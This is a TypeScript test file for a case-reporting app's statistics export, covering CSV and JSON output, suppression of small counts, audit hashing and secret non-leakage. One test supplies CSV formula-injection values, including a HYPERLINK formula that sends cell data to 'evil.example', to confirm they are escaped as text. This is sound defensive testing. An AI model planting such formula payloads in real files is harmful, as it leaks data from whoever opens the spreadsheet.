import { createHash } from 'node:crypto';
import { StatsTableSchema } from '@haven/shared';
import { startTestApp, type TestApp } from '../../../../test/support/app';
import { aCase } from '../../../../test/support/factories';
import { aStaffMember, type StaffMember } from '../../../../test/support/staff';
import { casesOf, lastAuditEntry, statsApi, store } from '../../../../test/support/stats';

let testApp: TestApp;
let auditor: StaffMember;
beforeEach(async () => {
  testApp = await startTestApp();
  auditor = await aStaffMember(testApp, { roles: ['auditor'] });
  // 12 + 15 cyberattacks, 3 + 20 cases of online hate (the 3 withheld), in January and February.
  await store(testApp, [
    ...casesOf(12, 'cyberattack', '2026-01', { triage: [1] }),
    ...casesOf(15, 'cyberattack', '2026-02', { triage: [2] }),
    ...casesOf(3, 'online_hate', '2026-01'),
    ...casesOf(20, 'online_hate', '2026-02'),
  ]);
});
afterEach(() => testApp.close());

const exportOf = (query: Record<string, string>) => statsApi(testApp, auditor).export(query);
const lines = (bytes: Buffer) => bytes.toString('utf8').split('\r\n');

describe('a CSV export', () => {
  it('when an auditor exports category by month, then there is a line per cell and total, withheld counts marked <10, and the parameters after', async () => {
    const response = await exportOf({ dims: 'category,month', format: 'csv' });

    expect(response.status).toBe(200);
    expect(response.type).toBe('text/csv');
    expect(response.headers['content-type']).toContain('charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="haven-statistics-category-month-\d{8}T\d{6}Z\.csv"$/,
    );
    const text = lines(response.body);
    expect(text[0]).toBe('category,month,cases,median_days_to_triage,median_days_to_resolution');
    expect(text).toContain('online_hate,2026-01,<10,,');
    expect(text).toContain('Total,Total,50,2,');
    expect(text).toContain('cyberattack,Total,27,2,');
    expect(text).toContain('parameter,value');
    expect(text).toContain('suppression_threshold,10');
    expect(text).toContain('dimensions,category month');
    expect(text.find((line) => line.startsWith('generated_at,'))).toMatch(
      /^generated_at,\d{4}-\d\d-\d\dT/,
    );
  });

  it('when a value would start a spreadsheet formula, then it is written as text', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      '+SUM(1,2)',
      '-1+2',
      '@cmd',
      '\tTAB',
    ];
    await store(
      testApp,
      hostile.flatMap((category) => casesOf(10, category, '2026-03')),
    );

    const response = await exportOf({ dims: 'category', format: 'csv' });

    const text = response.body.toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",10,,`);
    expect(text).toContain(`"'+SUM(1,2)",10,,`);
    expect(text).toContain(`'-1+2,10,,`);
    expect(text).toContain(`'@cmd,10,,`);
    expect(text).toContain(`'\tTAB,10,,`);
    for (const line of lines(response.body)) {
      for (const field of line.split(',')) expect(field).not.toMatch(/^"?[=+\-@\t]/);
    }
  });

  it('when a byte order mark is asked for, then the file starts with one, and otherwise not', async () => {
    const withMark = await exportOf({ dims: 'month', format: 'csv', bom: 'true' });
    const without = await exportOf({ dims: 'month', format: 'csv' });

    // The same file but for the mark, and the time each was made.
    const timeless = (bytes: Buffer) => bytes.toString('utf8').replace(/\d{4}-[\d-]+T[\d:.]+Z/, '');
    expect([...withMark.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(timeless(withMark.body.subarray(3))).toEqual(timeless(without.body));
    expect(without.body.toString('utf8').startsWith('month,cases,')).toBe(true);
  });
});

describe('a JSON export', () => {
  it('when an auditor exports as JSON, then the file is the published table, with the parameters, k, the time and the withheld cells marked', async () => {
    const response = await exportOf({ dims: 'category,month', format: 'json', from: '2026-01' });

    expect(response.status).toBe(200);
    expect(response.type).toBe('application/json');
    const table = StatsTableSchema.parse(JSON.parse(response.body.toString('utf8')));
    expect(table.parameters).toMatchObject({ dims: ['category', 'month'], from: '2026-01' });
    expect(table.k).toBe(10);
    expect(table.cells[1]![0]).toMatchObject({ count: null, suppressed: true });
    expect(Date.parse(table.generatedAt)).not.toBeNaN();
  });
});

describe('what an export leaves behind and leaves out', () => {
  it.each([['csv'], ['json']])(
    'when an auditor exports as %s, then the audit log keeps the parameters and the SHA-256 of the exact bytes',
    async (format) => {
      const response = await exportOf({ dims: 'month', format, country: 'FR', bom: 'false' });

      const entry = await lastAuditEntry(testApp);
      expect(entry).toMatchObject({
        action: 'stats.exported',
        actorId: auditor.user.id,
        details: {
          format,
          bom: false,
          bytes: response.body.length,
          sha256: createHash('sha256').update(response.body).digest('hex'),
          parameters: { dims: ['month'], country: 'FR' },
        },
      });
    },
  );

  it('when cases hold narratives, references, receipts and ids, then no export of any breakdown carries any of them', async () => {
    const secrets = {
      id: 'c0ffee00-aaaa-4bbb-8ccc-secretcaseid',
      reference: 'HV-SECRETREF',
      receiptHash: 'receipthashsecretvalue',
      idempotencyKey: 'idempotencysecretvalue',
      narrative: 'Zanzibar marmalade narrative only the reporter wrote',
    };
    await store(testApp, [
      aCase({
        id: secrets.id,
        reference: secrets.reference,
        receiptHash: secrets.receiptHash,
        idempotencyKey: secrets.idempotencyKey,
        platform: 'x',
        targets: ['religion'],
        body: { text: { narrative: secrets.narrative, platform: 'Zanzibar Chat' } },
      }),
    ]);

    for (const dims of ['category,month', 'country,status', 'platform,severity', 'target']) {
      for (const format of ['csv', 'json']) {
        const response = await exportOf({ dims, format });
        expect(response.status).toBe(200);
        const text = response.body.toString('utf8');
        for (const secret of [...Object.values(secrets), 'Zanzibar']) {
          expect({ dims, format, leaked: text.includes(secret) }).toEqual({
            dims,
            format,
            leaked: false,
          });
        }
      }
    }
  });
});
